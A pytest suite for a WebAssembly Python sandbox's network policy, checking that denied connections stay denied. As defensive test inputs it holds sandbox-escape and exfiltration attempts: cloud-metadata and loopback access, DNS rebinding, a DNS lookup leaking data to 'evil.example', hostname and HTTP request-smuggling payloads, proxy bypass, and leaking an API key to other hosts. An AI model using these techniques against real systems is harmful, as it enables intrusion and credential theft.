"""What a policy denies stays denied, however it is asked for; and the same thing, allowed, works."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import trustme

from pywasm_sandbox import NetworkAttempt, NetworkPolicy, NetworkRule, Sandbox, Secret
from tests.unit.network.test_policy import LOOPBACK_NOTATIONS

from .conftest import NAME, Box, Server, _serve, serve_bytes, server_context

Open = Callable[..., Box]


def _connect(host: str, port: int) -> str:
    family = "socket.AF_INET6" if ":" in host else "socket.AF_INET"
    return f"import socket\ns = socket.socket({family})\ns.settimeout(5)\ns.connect(({host!r}, {port}))"


@pytest.mark.parametrize(
    "host", [*LOOPBACK_NOTATIONS, "localhost", "LOCALHOST.", "::1", "0.0.0.0", "0", "a.localhost"]
)
def test_loopback_is_denied_in_every_notation(open_box: Open, http_server: Server, host: str) -> None:
    for allow in ((), ("*",), ("0.0.0.0/0", "::/0"), ("example.com", "10.0.0.0/8")):
        name, message = open_box(*allow).fails(_connect(host, http_server.port))
        assert (name, "the network policy denies a connection" in message) == ("PermissionError", True), (
            message
        )
    assert http_server.seen == []


@pytest.mark.parametrize("host", [*LOOPBACK_NOTATIONS, "localhost", NAME])
def test_loopback_is_reached_where_it_is_named(open_box: Open, http_server: Server, host: str) -> None:
    open_box("127.0.0.1", NAME).text(_connect(host, http_server.port))


@pytest.mark.parametrize(
    "address",
    [
        "169.254.169.254",
        "fd00:ec2::254",
        "10.0.0.1",
        "192.168.0.1",
        "224.0.0.1",
        "255.255.255.255",
        "1.1.1.1",
    ],
)
def test_addresses_without_a_rule_are_denied(open_box: Open, address: str) -> None:
    box = open_box("127.0.0.1", "example.com")
    assert box.fails(_connect(address, 80))[0] == "PermissionError"
    (attempt,) = [each for each in box.sandbox.network_log if each.kind == "connect"]
    assert (attempt.allowed, attempt.address, attempt.port) == (False, address, 80)


def test_ports_are_part_of_a_rule(open_box: Open, http_server: Server) -> None:
    assert (
        open_box(f"127.0.0.1:{http_server.port}").run(_connect("127.0.0.1", http_server.port)).error is None
    )
    assert open_box("127.0.0.1:1-79").fails(_connect("127.0.0.1", http_server.port))[0] == "PermissionError"


def test_names_are_resolved_by_permission_only(open_box: Open) -> None:
    asked: list[str] = []

    def resolve(name: str) -> list[str]:
        asked.append(name)
        return ["93.184.216.34"]

    box = open_box("allowed.example", resolver=resolve)
    for code in (
        "socket.gethostbyname('secret-data.evil.example')",
        "socket.getaddrinfo('evil.example', 80)",
        "socket.create_connection(('evil.example', 80))",
        "socket.getaddrinfo('evil.example\\r\\nallowed.example', 80)",
        "socket.getaddrinfo('evil.example#.allowed.example', 80)",
    ):
        name, _ = box.fails(f"import socket\n{code}")
        assert name == "gaierror"
    assert asked == []
    assert box.text("import socket\nsocket.gethostbyname('Allowed.Example.')") == "93.184.216.34"
    assert asked == ["allowed.example"]


def test_a_name_of_a_private_address_is_denied(open_box: Open, http_server: Server) -> None:
    for address in ("127.0.0.1", "::ffff:127.0.0.1", "0x7f.1", "169.254.169.254", "::1", "fe80::1%lo"):
        box = open_box("rebind.test", resolver=lambda name, address=address: [address])
        name, message = box.fails(
            f"import socket\nsocket.create_connection(('rebind.test', {http_server.port}))"
        )
        assert name == "gaierror", address
        assert "not public" in message or "no address" in message


def test_a_resolver_that_changes_its_mind_has_no_effect(open_box: Open, http_server: Server) -> None:
    answers = iter([["93.184.216.34"], ["127.0.0.1"], ["127.0.0.1"]])
    box = open_box("rebind.test", resolver=lambda name: next(answers))
    assert box.text("import socket\nsocket.gethostbyname('rebind.test')") == "93.184.216.34"
    # The connection goes to an address that was resolved and looked at, or nowhere.
    assert box.fails(f"socket.create_connection(('rebind.test', {http_server.port}), 1)")[0] == "gaierror"
    assert box.fails(_connect("127.0.0.1", http_server.port))[0] == "PermissionError"


def test_an_address_of_a_name_is_reached_only_after_it_was_resolved(
    open_box: Open, http_server: Server
) -> None:
    box = open_box(NetworkRule(NAME, private=True))  # type: ignore[arg-type]
    assert box.fails(_connect("127.0.0.1", http_server.port))[0] == "PermissionError"
    assert box.run(_connect(NAME, http_server.port)).error is None


def test_a_redirect_is_a_new_connection(open_box: Open, http_server: Server, https_server: Server) -> None:
    box = open_box(f"127.0.0.1:{http_server.port}")
    there = f"http://127.0.0.1:{https_server.port}/"
    code = f"import requests\nrequests.get('http://127.0.0.1:{http_server.port}/redirect?to={there}')"
    name, message = box.fails(code)
    assert name == "ConnectionError"
    assert "network policy denies" in message
    metadata = (
        f"requests.get('http://127.0.0.1:{http_server.port}/redirect?to=http://169.254.169.254/latest')"
    )
    assert box.fails(metadata)[0] == "ConnectionError"
    allowed = f"requests.get('http://127.0.0.1:{http_server.port}/redirect?to=/ok').text"
    assert box.text(allowed) == "GET /ok "


def test_proxy_variables_open_no_way(
    open_box: Open, http_server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    for variable in ("HTTP_PROXY", "http_proxy", "ALL_PROXY"):
        monkeypatch.setenv(variable, f"http://127.0.0.1:{http_server.port}")
    box = open_box(NAME, sandbox={"env": {"http_proxy": f"http://127.0.0.1:{http_server.port}"}})
    name, _ = box.fails("import requests\nrequests.get('http://evil.example/')")
    assert name == "ProxyError"
    assert http_server.seen == []
    open_box("127.0.0.1", sandbox={"env": {"http_proxy": f"http://127.0.0.1:{http_server.port}"}}).text(
        "import requests\nrequests.get('http://some.example/').status_code"
    )
    assert len(http_server.seen) == 1


def test_without_a_policy_there_is_nothing() -> None:
    with Sandbox() as sandbox:
        for code, error in (
            ("socket.create_connection(('127.0.0.1', 80))", "PermissionError"),
            ("socket.gethostbyname('example.com')", "gaierror"),
        ):
            execution = sandbox.run_code(f"import socket\n{code}")
            assert execution.error is not None
            assert execution.error.name == error
            assert "pass network=NetworkPolicy(allow=" in execution.error.message
        assert [attempt.allowed for attempt in sandbox.network_log if attempt.kind != "resolve"] == [False]


def test_a_policy_is_one() -> None:
    with pytest.raises(TypeError, match="NetworkPolicy or None, not dict"):
        Sandbox(network={"allow": []})  # type: ignore[arg-type]


# ---- requests


def test_methods(open_box: Open, http_server: Server, https_server: Server) -> None:
    box = open_box(f"GET,HEAD {NAME}", "127.0.0.1:1")
    for scheme, server in (("http", http_server), ("https", https_server)):
        box = open_box(NetworkRule(f"GET,HEAD {NAME}", private=True))  # type: ignore[arg-type]
        url = f"{scheme}://{NAME}:{server.port}"
        code = f"""import requests
s = requests.Session()
answers = [s.get('{url}/a').text, s.head('{url}/b').status_code]
for method in ('POST', 'PUT', 'DELETE', 'PATCH', 'get'):
    r = s.request(method, '{url}/c', data=b'x')
    answers.append((r.status_code, r.headers.get('X-Sandbox-Policy')))
answers.append(s.get('{url}/d').text)
answers"""
        denied = "(403, 'denied'), " * 4
        assert box.text(code) == f"['GET /a ', 200, {denied}(200, None), 'GET /d ']"
        assert server.methods == ["GET", "HEAD", "GET", "GET"]
        assert "the rules don't allow DELETE requests" in (box.text(f"requests.delete('{url}').text") or "")
        async_code = f"""import asyncio
async def send(method):
    r, w = await asyncio.open_connection('{NAME}', {server.port}, ssl={scheme == "https" or None})
    w.write(f'{{method}} / HTTP/1.1\\r\\nHost: {NAME}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
    data = await r.read(); w.close(); return data[9:12]
[await send('GET'), await send('POST')]"""
        assert box.text(async_code) == "[b'200', b'403']"
    kinds = [
        (each.kind, each.method, each.allowed) for each in box.sandbox.network_log if each.kind == "request"
    ]
    assert kinds[:3] == [("request", "GET", True), ("request", "HEAD", True), ("request", "POST", False)]


def test_method_rules_are_not_talked_around(
    open_box: Open, http_server: Server, https_server: Server
) -> None:
    box = open_box(NetworkRule(f"GET {NAME}", private=True))  # type: ignore[arg-type]
    box.run("import socket")

    def raw(port: int, data: bytes) -> str | None:
        code = f"""s = socket.create_connection(('{NAME}', {port}), 5)
s.sendall({data!r})
s.recv(1000)[9:12]"""
        return box.text(code)

    port = http_server.port
    assert raw(port, b"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n") == "b'200'"
    assert raw(port, b"POST / HTTP/1.1\r\nHost: api.test\r\n\r\n") == "b'403'"
    assert raw(port, b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n") == "b'403'"
    assert raw(port, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n") == "b'403'"
    assert raw(port, b"\x16\x03\x01\x00\xf0\x01\x00\x00\xec\x03\x03" + b"x" * 300) == "b'400'"
    assert raw(port, b"HELO me\r\n\r\n") == "b'400'"
    smuggled = b"GET / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n"
    assert raw(port, smuggled + b"POST /x HTTP/1.1\r\nHost: api.test\r\n\r\n") == "b'400'"
    code = f"""import ssl
context = ssl._create_unverified_context(); context.set_alpn_protocols(['h2'])
t = context.wrap_socket(socket.create_connection(('{NAME}', {https_server.port})), server_hostname='{NAME}')
t.selected_alpn_protocol()"""
    assert box.text(code) == "http/1.1"
    assert set(http_server.methods) == {"GET"}


def test_a_denied_request_with_a_large_body_gets_its_answer(open_box: Open, http_server: Server) -> None:
    box = open_box("GET 127.0.0.1")
    url = f"http://127.0.0.1:{http_server.port}"
    assert box.text(f"import requests\nrequests.post('{url}', data=b'x' * 3_000_000).status_code") == "403"
    assert http_server.seen == []


def test_tls_to_another_name_than_the_connection_is_for(open_box: Open, https_server: Server) -> None:
    box = open_box(NetworkRule(NAME, private=True))  # type: ignore[arg-type]
    code = f"""import ssl, socket
context = ssl._create_unverified_context()
def to(name):
    plain = socket.create_connection(('{NAME}', {https_server.port}))
    try: return context.wrap_socket(plain, server_hostname=name).version()
    except ssl.SSLError as e: return str(e)
[to('{NAME}'), to('other.test'), to(None)]"""
    text = box.text(code) or ""
    assert text.startswith("['TLSv1.3', ")
    assert text.count("the network policy denies TLS: the connection is not allowed for a server") == 2


def test_http_only(open_box: Open, http_server: Server) -> None:
    box = open_box("127.0.0.1", http_only=True)
    url = f"http://127.0.0.1:{http_server.port}/"
    assert box.text(f"import requests\nrequests.get('{url}').status_code") == "200"
    code = f"""import socket
s = socket.create_connection(('127.0.0.1', {http_server.port}), 5)
s.sendall(b'SSH-2.0-client\\r\\n\\r\\n')
s.recv(100)[:12]"""
    assert box.text(code) == "b'HTTP/1.1 400'"


# ---- secrets

KEY = "sk-very-secret-0123456789"


def _secret_box(open_box: Open, **options: Any) -> Box:
    secret = Secret(value=KEY, hosts=[NAME], **(options or {"env": "API_KEY"}))
    return open_box("127.0.0.1", "*.test", secrets=[secret])


def test_a_secret_goes_to_its_host_and_nowhere_else(
    open_box: Open, https_server: Server, http_server: Server
) -> None:
    box = _secret_box(open_box)
    code = f"""import os, requests
key = os.environ['API_KEY']
headers = {{'Authorization': 'Bearer ' + key}}
requests.get('https://{NAME}:{https_server.port}/', headers=headers)
requests.get('https://{NAME}:{https_server.port}/', auth=('me', key))
requests.get('http://{NAME}:{http_server.port}/', headers=headers)
requests.get('https://127.0.0.1:{https_server.port}/', headers=headers)
key"""
    stand_in = box.text(code)
    assert stand_in is not None
    assert KEY not in stand_in
    sent = [headers.get("Authorization", "") for _, _, headers, _ in https_server.seen]
    assert sent[0] == f"Bearer {KEY}"
    assert sent[1] == requests_basic("me", KEY)
    assert KEY not in sent[2]
    assert KEY not in str(http_server.seen)
    assert KEY not in str(box.sandbox.network_log)
    assert box.text(f"'{KEY}' in str(os.environ)") == "False"


def requests_basic(user: str, password: str) -> str:
    import base64

    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


def test_a_header_is_set_whatever_the_guest_sends(open_box: Open, https_server: Server) -> None:
    box = _secret_box(open_box, header="X-Api-Key")
    url = f"https://{NAME}:{https_server.port}/"
    box.text(
        f"import urllib.request as u\nu.urlopen(u.Request('{url}', headers={{'x-api-key': 'mine'}})).status"
    )
    (seen,) = https_server.seen
    assert {name: value for name, value in seen[2].items() if name.lower() == "x-api-key"} == {
        "X-Api-Key": KEY
    }


def test_a_secret_needs_a_certificate_that_the_host_trusts(open_box: Open) -> None:
    other = trustme.CA()
    box = _secret_box(open_box)
    box.sandbox.write_file("/workspace/evil.pem", other.cert_pem.bytes())
    with _serve(server_context(other, NAME)) as server:
        for options in ("verify=False", "verify='/workspace/evil.pem'"):
            code = f"""import os, requests, urllib3
urllib3.disable_warnings()
requests.get('https://{NAME}:{server.port}/', headers={{'X': os.environ['API_KEY']}}, {options})"""
            assert box.fails(code)[0] == "SSLError"
        assert server.seen == []


def test_a_secret_is_not_sent_in_another_hosts_name(open_box: Open, https_server: Server) -> None:
    box = _secret_box(open_box)
    code = f"""import os, requests
r = requests.get('https://{NAME}:{https_server.port}/',
    headers={{'Host': 'other.test', 'X': os.environ['API_KEY']}})
r.status_code"""
    assert box.text(code) == "403"
    assert https_server.seen == []


# ---- limits and the log


def test_connections_at_once(open_box: Open) -> None:
    with serve_bytes(lambda connection: connection.recv(1) and None) as port:
        box = open_box("127.0.0.1", max_connections=3)
        connect = f"socket.create_connection(('127.0.0.1', {port}))"
        assert box.text(f"import socket\nopen = [{connect} for _ in range(3)]\nlen(open)") == "3"
        name, message = box.fails(connect)
        assert (name, "limit max_connections of 3 are open" in message) == ("PermissionError", True)
        assert box.run(f"open.pop().close()\nopen.append({connect})").error is None
        assert [each.reason for each in box.sandbox.network_log if each.kind == "limit"] == [
            "max_connections of 3 are open"
        ]


def test_connections_in_a_minute(open_box: Open) -> None:
    with serve_bytes(lambda connection: None) as port:
        box = open_box("127.0.0.1", max_connections_per_minute=5)
        connect = f"socket.create_connection(('127.0.0.1', {port})).close()"
        assert box.run(f"import socket\nfor _ in range(5): {connect}").error is None
        assert "max_connections_per_minute of 5" in box.fails(connect)[1]


def test_bytes(open_box: Open, http_server: Server) -> None:
    url = f"http://127.0.0.1:{http_server.port}"
    box = open_box("127.0.0.1", max_received_bytes=100_000, max_sent_bytes=20_000)
    assert box.text(f"import requests\nlen(requests.get('{url}/bytes/1000').content)") == "1000"
    assert box.fails(f"requests.get('{url}/bytes/200000')")[0] in ("ConnectionError", "ChunkedEncodingError")
    assert [each.reason for each in box.sandbox.network_log if each.kind == "limit"] == [
        "max_received_bytes of 100000"
    ]
    box = open_box("127.0.0.1", max_sent_bytes=20_000)
    assert box.text(f"import requests\nrequests.post('{url}', data=b'x' * 10000).status_code") == "200"
    assert box.fails(f"requests.post('{url}', data=b'x' * 20000)")[0] == "ConnectionError"


def test_the_age_of_a_connection(open_box: Open) -> None:
    with serve_bytes(lambda connection: connection.recv(1) and None) as port:
        box = open_box("127.0.0.1", max_connection_seconds=0.3)
        started = time.monotonic()
        code = f"import socket\nsocket.create_connection(('127.0.0.1', {port})).recv(1)"
        assert box.text(code) == "b''"
        assert 0.2 < time.monotonic() - started < 5


def test_the_time_to_connect(open_box: Open) -> None:
    # A listener whose queue is full doesn't answer.
    with socket.socket() as full:
        full.bind(("127.0.0.1", 0))
        full.listen(0)
        port = full.getsockname()[1]
        waiting = [socket.socket() for _ in range(4)]
        for each in waiting:
            each.setblocking(False)
            each.connect_ex(("127.0.0.1", port))
        box = open_box("127.0.0.1", connect_timeout=0.3)
        name, _ = box.fails(f"import socket\nsocket.create_connection(('127.0.0.1', {port}))")
        assert name == "TimeoutError"
        name, _ = box.fails(f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=0.1)")
        assert name == "TimeoutError"
        for each in waiting:
            each.close()


def test_the_log_and_its_callback(open_box: Open, http_server: Server) -> None:
    heard: list[NetworkAttempt] = []

    def hear(attempt: NetworkAttempt) -> None:
        heard.append(attempt)
        raise RuntimeError("nobody minds")

    box = open_box("127.0.0.1", NAME, on_attempt=hear, max_log_entries=3)
    box.run(_connect(NAME, http_server.port))
    box.fails(_connect("10.0.0.1", 5))
    box.fails("import socket\nsocket.gethostbyname('evil.example')")
    seen = [(each.kind, each.allowed, each.host, each.address, each.port) for each in heard]
    assert seen == [
        ("resolve", True, NAME, "127.0.0.1", None),
        ("connect", True, NAME, "127.0.0.1", http_server.port),
        ("connect", False, None, "10.0.0.1", 5),
        ("resolve", False, "evil.example", None, None),
    ]
    assert box.sandbox.network_log == heard[1:]


@pytest.mark.parametrize(
    "message",
    [
        "{'op': 'net.connect', 'fd': FD}",
        "{'op': 'net.connect', 'fd': FD, 'host': 5, 'port': 80}",
        "{'op': 'net.connect', 'fd': FD, 'host': 'example.com', 'port': 80}",
        "{'op': 'net.connect', 'fd': FD, 'host': '127.0.0.1', 'port': -1}",
        "{'op': 'net.connect', 'fd': FD, 'host': '127.0.0.1', 'port': 80, 'timeout': 'x'}",
        "{'op': 'net.connect', 'fd': FD, 'host': '127.0.0.1', 'port': 80, 'timeout': -1}",
        "{'op': 'net.connect', 'fd': 1, 'host': '127.0.0.1', 'port': 80}",
        "{'op': 'net.connect', 'fd': 999, 'host': '127.0.0.1', 'port': 80}",
        "{'op': 'net.connect', 'fd': True, 'host': '127.0.0.1', 'port': 80}",
        "{'op': 'net.resolve', 'host': None}",
        "{'op': 'net.resolve', 'host': 'a' * 100000}",
        "{'op': 'net.tls', 'fd': FD}",
        "{'op': 'net.tls', 'fd': FD, 'alpn': 'x'}",
        "{'op': 'net.tls_token', 'alpn': [5]}",
        "{'op': 'net.tls_token', 'ca': 'x' * (5 << 20)}",
        "{'op': 'net.tls_token', 'verify': 1}",
        "{'op': 'net.listen', 'fd': FD, 'host': '0.0.0.0', 'port': 80}",
        "{'op': 'net.listen', 'fd': FD, 'host': '8.8.8.8', 'port': 80}",
        "{'op': 'net.set_option', 'fd': FD, 'name': 'SO_SNDBUF'}",
        "{'op': 'net.names', 'fd': -1}",
        "{'op': 'net.get_option', 'fd': 0, 'name': 'SO_ERROR'}",
    ],
)
def test_hostile_calls_get_errors(open_box: Open, message: str) -> None:
    box = open_box("127.0.0.1")
    code = f"""import socket, json, _pywasm
FD = socket.socket().detach()
'error' in json.loads(_pywasm.request(json.dumps({message}).encode()))"""
    assert box.text(code) == "True"
    assert box.text("1 + 1") == "2"


def test_sockets_count_as_open_files(open_box: Open) -> None:
    box = open_box("127.0.0.1", sandbox={"max_open_files": 20})
    code = "import socket\nopen = []\nfor _ in range(100): open.append(socket.socket())"
    assert box.fails(code)[0] == "OSError"
    assert box.run("open.clear()\nsocket.socket().close()").error is None


def test_the_policys_certificates_can_be_a_file(
    open_box: Open, https_server: Server, authority_pem: str, tmp_path: Path
) -> None:
    path = tmp_path / "ca.pem"
    path.write_text(authority_pem)
    assert NetworkPolicy(ca_certificates=path).ca_certificates == authority_pem
